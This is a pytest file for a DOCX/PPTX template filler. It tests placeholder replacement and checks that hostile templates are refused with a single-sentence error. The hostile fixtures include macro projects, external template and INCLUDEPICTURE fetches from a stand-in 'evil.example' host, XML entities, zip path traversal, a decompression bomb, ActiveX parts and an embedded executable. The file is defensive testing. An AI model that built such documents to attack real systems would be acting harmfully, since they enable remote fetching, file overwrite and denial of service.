"""An organization's own template: names become values, everywhere and across runs; hostile ones are refused with a reason."""

from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st
from pptx import Presentation
from pptx.util import Inches

from assessment.reports import packages, templates
from assessment.reports.look import LANGUAGES
from tests.reports.making import figures, report, table

VALUES = {
    "a.low": "51.9 %",
    "name": "Bakery <b>&</b> {{ a.low }}",
    "lines": "one\ntwo",
    "empty": "",
}


def document(*paragraphs: tuple[str, ...], header: str = "") -> bytes:
    """A DOCX whose paragraphs are made of these runs."""
    made = Document()
    for runs in paragraphs:
        paragraph = made.add_paragraph()
        for run in runs:
            paragraph.add_run(run)
    made.sections[0].header.paragraphs[0].text = header
    target = BytesIO()
    made.save(target)
    return target.getvalue()


def slides(*runs: str) -> bytes:
    made = Presentation()
    slide = made.slides.add_slide(made.slide_layouts[6])
    paragraph = slide.shapes.add_textbox(0, 0, Inches(5), Inches(1)).text_frame.paragraphs[0]
    for run in runs:
        paragraph.add_run().text = run
    slide.notes_slide.notes_text_frame.text = "Notes {{ a.low }}"
    target = BytesIO()
    made.save(target)
    return target.getvalue()


def fill(content: bytes) -> templates.Filled:
    return templates.fill(templates.opened(content), VALUES)


def texts(content: bytes) -> list[str]:
    return [one.text for one in Document(BytesIO(content)).paragraphs]


def test_a_name_is_replaced_across_runs_in_tables_and_in_the_header() -> None:
    filled = fill(document(("Low: {", "{ a.", "low }", "} so far"), ("{{a.low}} and {{ a.low }}",), header="{{ a.low }}"))  # fmt: skip
    assert texts(filled.content) == ["Low: 51.9 % so far", "51.9 % and 51.9 %"]
    assert Document(BytesIO(filled.content)).sections[0].header.paragraphs[0].text == "51.9 %"
    assert filled.replaced == 4


def test_a_value_is_text_and_is_never_read_again() -> None:
    filled = fill(document(("{{ name }}",), ("{{ lines }}",)))
    assert texts(filled.content) == [VALUES["name"], "one\ntwo"]


def test_what_is_unknown_stays_and_is_named_and_what_has_no_value_says_so() -> None:
    filled = fill(document(("{{ nobody }} {{ 7 * 7 }} {{ empty }}",)))
    assert texts(filled.content) == ["{{ nobody }} {{ 7 * 7 }} not known"]
    assert filled.unknown == ("nobody", "7 * 7")
    assert filled.missing == ("empty",)


def test_slides_and_their_notes_are_filled() -> None:
    filled = fill(slides("Low {{", " a.low }}", ", {{ lines }}"))
    (slide,) = Presentation(BytesIO(filled.content)).slides
    assert slide.shapes[0].text_frame.text == "Low 51.9 %, one\x0btwo"
    assert slide.notes_slide.notes_text_frame.text == "Notes 51.9 %"


@settings(max_examples=25)
@given(parts=st.lists(st.sampled_from(["{", "}", "{{", "}}", " a.low ", "name", "x", " "]), max_size=12))  # fmt: skip
def test_however_a_text_is_cut_into_runs_the_outcome_is_the_same(parts: list[str]) -> None:
    whole = fill(document(("".join(parts),)))
    cut = fill(document(tuple(parts)))
    assert texts(cut.content) == texts(whole.content)


def test_every_figure_of_a_report_and_its_tables_can_be_asked_for() -> None:
    made = report(figures(), table(3)).model_copy(update={"aliases": {"readiness.low": "made_up.figure_0"}})  # fmt: skip
    values = templates.values(made, LANGUAGES["de-DE"])
    assert values["made_up.figure_0"] == values["readiness.low"] == "12,5 %"
    assert values["table.made_up.table_3"].count("\n") == 2
    assert values["organization.name"] == "Bakery"


def changed(change: Callable[[ZipFile], None], *, without: str = "") -> bytes:
    """A harmless document with something in it changed."""
    target = BytesIO()
    with ZipFile(BytesIO(document(("{{ a.low }}",)))) as before, ZipFile(target, "w", ZIP_DEFLATED) as after:  # fmt: skip
        for name in before.namelist():
            if name != without:
                after.writestr(name, before.read(name))
        change(after)
    return target.getvalue()


def many(archive: ZipFile) -> None:
    for place in range(2100):
        archive.writestr(f"word/media/{place}.png", b"")


def replaced(name: str, old: str, new: str) -> bytes:
    content = document(("{{ a.low }}",))
    with ZipFile(BytesIO(content)) as before:
        text = before.read(name).decode().replace(old, new)
    assert new in text
    return changed(lambda archive: archive.writestr(name, text), without=name)


def nested() -> bytes:
    target = BytesIO()
    with ZipFile(target, "w") as archive:
        archive.writestr("inside.txt", "x")
    return target.getvalue()


EXTERNAL = '<Relationship Id="rId99" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
FIELD = '<w:p><w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "http://evil.example/p" </w:instrText></w:r></w:p></w:body>'
HOSTILE = {
    "macros": changed(lambda archive: archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")),
    "macros by type": replaced("[Content_Types].xml", "wordprocessingml.document.main", "ms-word.document.macroEnabled.main"),
    "outside itself": replaced("word/_rels/document.xml.rels", "</Relationships>", EXTERNAL),
    "another file": changed(lambda archive: archive.writestr("word/embeddings/sheet.xlsx", nested())),
    "another file named as a picture": changed(lambda archive: archive.writestr("word/media/a.png", nested())),
    "entities": replaced("word/document.xml", "<w:document", '<!DOCTYPE w [<!ENTITY a "b">]><w:document'),
    "entities in UTF-16": changed(lambda archive: archive.writestr("word/document.xml", "<!DOCTYPE a><a/>".encode("utf-16")), without="word/document.xml"),
    "unpacks to": changed(lambda archive: archive.writestr("word/media/zero.png", b"\x00" * 5_000_000)),
    "path": changed(lambda archive: archive.writestr("word/../../evil.xml", "<a/>")),
    "field": replaced("word/document.xml", "</w:body>", FIELD),
    "controls": changed(lambda archive: archive.writestr("word/activeX/activeX1.xml", "<a/>")),
    "unknown kind": changed(lambda archive: archive.writestr("word/run.exe", b"MZ")),
    "no archive": b"Dear diary",
    "neither": nested(),
    "files": changed(many),
}  # fmt: skip


@pytest.mark.parametrize("kind", list(HOSTILE))
def test_a_hostile_template_is_refused_in_one_clear_sentence(kind: str) -> None:
    with pytest.raises(packages.TemplateRefusedError) as caught:
        templates.fill(templates.opened(HOSTILE[kind]), VALUES)
    said = str(caught.value)
    assert said.startswith("This template is refused: ")
    assert said.endswith(".")
    assert "\n" not in said


def test_a_damaged_part_is_refused_and_nothing_is_fetched() -> None:
    torn = replaced("word/document.xml", "</w:body>", "")
    with pytest.raises(packages.TemplateRefusedError, match="damaged"):
        fill(torn)
